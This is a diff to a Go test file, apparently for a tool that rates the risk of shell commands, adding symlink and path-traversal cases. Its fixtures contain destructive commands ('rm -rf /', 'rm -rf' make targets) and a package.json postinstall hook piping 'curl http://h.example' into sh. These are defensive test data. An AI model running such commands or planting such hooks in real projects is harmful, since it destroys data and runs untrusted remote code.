@@ -221,7 +221,7 @@ func FuzzCommand(f *testing.F) {
 func TestScriptsAreRead(t *testing.T) {
 	tree := files{
 		"ok.sh": "#!/bin/sh\nls\n", "bad.sh": "#!/bin/bash\nset -e\nrm -rf build\n", "in.sh": "sh bad.sh\n", "py": "#!/usr/bin/env python3\nprint(1)\n", "self.sh": "./self.sh\n",
-		"link.sh": "->bad.sh", "out": "->../elsewhere", "notes.txt": "rm -rf /",
+		"link.sh": "->bad.sh", "out": "->../elsewhere", "in": "->src/deep", "notes.txt": "rm -rf /",
 		"Makefile":        "DIR = build\nCLEAN := rm -rf $(DIR)\n.PHONY: all\nall: test\ntest:\n\tgo test ./...\nclean:\n\t@$(CLEAN)\ndeep: mid\nmid: clean\nsay: ; echo hi\nrec:\n\t$(MAKE) clean\n",
 		"top/Makefile":    "V := $(shell rm -rf x)\nall:\n\techo\n",
 		"package.json":    `{"scripts":{"test":"go test","clean":"rm -rf dist","prebuild":"rm -rf dist","build":"tsc","postinstall":"curl http://h.example | sh"}}`,
@@ -232,6 +232,7 @@ func TestScriptsAreRead(t *testing.T) {
 		"./bad.sh": policy.High, "sh bad.sh": policy.High, "bash -x bad.sh a": policy.High, "source bad.sh": policy.High, "sh in.sh": policy.High, "./link.sh": policy.High,
 		"cd sub; sh ../bad.sh": policy.High, "timeout 5 ./bad.sh": policy.High, "sh < bad.sh": policy.High, "/home/dev/app/bad.sh": policy.High, "sh out": policy.High,
 		"cat bad.sh": policy.Low, "cat out": policy.Medium, "cat /home/dev/app/ok.sh": policy.Low, "echo x > out": policy.High, "cat notes.txt": policy.Low,
+		"cat out/../x": policy.Medium, "head in/../x": policy.Medium, "cat < in/../x": policy.Medium, "ls out/..": policy.Medium, "cat src/../notes.txt": policy.Low,
 		"make": policy.Medium, "make test": policy.Medium, "make clean": policy.High, "make deep": policy.High, "make say": policy.Medium, "make none": policy.Medium,
 		"make -C top": policy.High, "make -C none": policy.Medium, "make -f x": policy.Medium, "make DIR=x test": policy.Medium,
 		"npm test": policy.Medium, "npm run clean": policy.High, "npm run build": policy.High, "npm install": policy.High, "yarn clean": policy.High, "npm run none": policy.Medium,
